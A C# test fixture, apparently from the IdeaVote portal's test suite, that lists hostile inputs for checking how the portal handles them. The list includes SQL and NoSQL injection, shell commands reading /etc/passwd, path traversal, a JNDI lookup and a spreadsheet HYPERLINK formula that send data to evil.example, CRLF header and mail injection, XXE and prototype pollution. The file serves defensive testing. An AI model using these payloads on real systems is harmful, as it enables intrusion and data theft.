namespace IdeaVote.Portal.Tests.Hostile;

/// <summary>Texts that would be commands of something behind the page: a database, a shell, a spreadsheet, a mail, a header.</summary>
internal static class InjectionAttacks
{
    public static IEnumerable<string> All =>
    [
        // Databases.
        "' OR '1'='1", "' OR 1=1 --", "\" OR \"\"=\"", "'; DROP TABLE accounts; --", "1; DELETE FROM accounts", "' UNION SELECT email, hash FROM accounts --", "admin'--", "') OR ('1'='1", "1' AND SLEEP(5)--", "'; SELECT pg_sleep(5); --", "%' OR '%'='", "_%", "x' COLLATE nocase",
        "$where: function() { return true; }", "{\"$gt\": \"\"}", "[$ne]=1", "{\"$ne\": null}", "true, $or: [ {}, { 'a': 'a", "NEAR(\"a\" \"b\", 999999999)", "title:*", "\"unclosed phrase", "a AND (b OR", "* OR *", "-\"\"", "^\"", "\"\"\"",

        // Templates, shells, paths, files.
        "${7*7}", "{{7*7}}", "{7*7}", "${jndi:ldap://evil.example/x}", "{0}{1}{2}", "{999}", "{", "}", "%s%s%s%n", "$(touch /tmp/x)", "`id`", "; cat /etc/passwd", "| whoami", "& ping evil.example", "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2f", "....//....//", "/etc/passwd\0.png",
        "C:\\Windows\\System32", "\\\\evil.example\\share", "CON", "file:///etc/passwd", "ref:../other", "ref:", "demo/../admin",

        // Headers, mails, logs.
        "x\r\nX-Attack: 1", "x\r\nSet-Cookie: ideavote-session=stolen", "x\nLocation: //evil.example", "x\r\n\r\n<script>alert(1)</script>", "a@b.example\r\nBcc: everybody@evil.example", "a@b.example, c@evil.example", "\"a b\"@evil.example", "a@b@c.example", "<a@b.example>", "x%0d%0aX-Attack:%201", "\u560d\u560aX-Attack: 1",

        // Spreadsheets.
        "=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0", "=HYPERLINK(\"https://evil.example?x=\"&A1,\"x\")", "\t=1+1", "\r=1+1", "=1+1\",\"=2+2", "x\",\"y\"\n\"=1+1", ";=1+1",

        // Objects.
        "__proto__", "constructor", "__proto__[isAdmin]", "{\"__proto__\":{\"isAdmin\":true}}", "[]", "{}", "null", "undefined", "true", "[[[[[[[[[[", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>", "()", "*)(uid=*))(|(uid=*", "(a+)+$", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!",
    ];
}
